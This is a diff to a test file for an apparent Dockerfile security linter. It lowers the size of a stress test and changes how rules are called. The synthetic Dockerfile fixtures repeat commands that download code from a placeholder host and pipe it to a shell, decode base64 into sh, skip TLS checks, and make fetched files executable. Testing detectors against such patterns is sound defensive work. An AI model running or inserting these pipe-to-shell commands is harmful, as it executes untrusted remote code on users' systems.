@@ -166,10 +166,11 @@ describe("confidence", () => {
 });
 
 it("large stages are read in one go", () => {
-  const n = 4_000;
+  const n = 1_000;
   const text = `FROM a\n${Array.from({ length: n }, (_, i) => `RUN curl -k http://e.com/${i} | base64 -d | sh && wget http://e.com/f${i} && chmod +x f${i} && eval "$(curl https://e.com)"\n`).join("")}`;
   const chain = `FROM a\nRUN ${"curl https://e.com/a | sh | ".repeat(n)} sh -c "${"$(curl https://e.com)".repeat(n)}" ${"$(x) ".repeat(n)}\n`;
-  expect(rules.map((rule) => [rule.name, reports(rule, text).length])).toEqual([
+  const stage = stageOf(text);
+  expect(rules.map((rule) => [rule.name, Array.from(rule.check(stage, {})).length])).toEqual([
     ["disabled-signature-check", 0],
     ["disabled-tls-verification", n],
     ["extra-package-index", 0],
